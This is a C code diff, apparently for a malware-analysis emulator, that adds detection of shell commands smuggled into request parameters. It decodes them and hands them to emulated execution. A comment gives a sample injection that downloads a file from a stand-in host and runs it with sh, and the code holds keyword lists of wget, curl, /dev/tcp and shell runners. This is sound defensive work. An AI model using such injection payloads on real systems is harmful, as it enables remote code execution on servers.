@@ -164,6 +164,47 @@ static void lists_read(struct call *call, struct bytes text)
     }
 }
 
+/* "country=$(cd /tmp; wget http://a/b; sh b)": a command line inside a parameter; absent where none. */
+static struct bytes injected(struct arena *arena, struct bytes literal)
+{
+    static const char *const opens[] = {"$(", "`", "|", ";", "%3B", "%60", "&&"};
+    static const char *const fetchers[] = {"wget ", "curl ", "wget+", "curl+", "wget%20", "curl%20",
+                                           NULL};
+    static const char *const runners[] = {"sh ", "sh+", "sh%20", "|sh", "| sh", "bash", "chmod", "./", NULL};
+    size_t start = BYTES_NPOS, end = 0, len = 0;
+    bool fetches = literal.len >= 24 && literal.len <= 4096 && holds_any(literal, fetchers);
+    if (!fetches || !holds_any(literal, runners))
+        return BYTES_NONE;
+    while (end < literal.len && strchr(" ;|&", literal.at[end]) == NULL)
+        end++;
+    if (tool_handler(bytes_sub(literal, 0, end)) != NULL) /* the whole of it is one */
+        return BYTES_NONE;
+    size_t first = literal.len;
+    for (size_t i = 0; fetchers[i] != NULL; i++) {
+        size_t at = bytes_find(literal, bytes_of_string(fetchers[i]), 0);
+        first = at < first ? at : first;
+    }
+    for (size_t i = 0; i < sizeof opens / sizeof opens[0]; i++) { /* what opens it stands shortly before */
+        size_t at = bytes_find(literal, bytes_of_string(opens[i]), first > 48 ? first - 48 : 0);
+        if (at < first && at + strlen(opens[i]) < start)
+            start = at + strlen(opens[i]);
+    }
+    if (start == BYTES_NPOS || start > first)
+        return BYTES_NONE;
+    uint8_t *plain = arena_alloc(arena, literal.len - start + 1);
+    bool coded = holds_any(literal, fetchers + 2);
+    for (size_t i = start; i < literal.len; i++) {
+        int high = i + 2 < literal.len ? ascii_hex(literal.at[i + 1]) : -1;
+        int low = i + 2 < literal.len ? ascii_hex(literal.at[i + 2]) : -1;
+        bool hex = coded && literal.at[i] == '%' && high >= 0 && low >= 0;
+        plain[len++] = hex ? (uint8_t)(high * 16 + low) : coded && literal.at[i] == '+' ? ' ' : literal.at[i];
+        i += hex ? 2 : 0;
+    }
+    while (len > 0 && strchr(")`'\"", plain[len - 1]) != NULL)
+        len--;
+    return bytes_of(plain, len);
+}
+
 static void literal_read(struct program *p, struct bytes literal, size_t at)
 {
     static const char *const systems[] = {"system",   "popen",        "Popen", "call(",
@@ -176,6 +217,12 @@ static void literal_read(struct program *p, struct bytes literal, size_t at)
     static const char *const fetchers[] = {"curl ", "wget ", "/dev/tcp/", NULL};
     static const char *const evaluators[] = {"exec(", "eval(", "eval ", "exec ", "compile(", NULL};
     struct machine *m = p->call->m;
+    struct bytes order = injected(m->arena, literal);
+    if (order.len > 0) {
+        sense(m, BEHAVIOUR_L7, ROLE_USED, order);
+        execute_string(p->call, string_of(order), BYTES("sh"), "parameter");
+        return;
+    }
     if (called_by(p->text, at, decoders) && literal.len >= 16) {
         struct bytes plain =
             decode_is_base64(literal, 16) ? decode_base64(m->arena, literal) : BYTES_NONE;
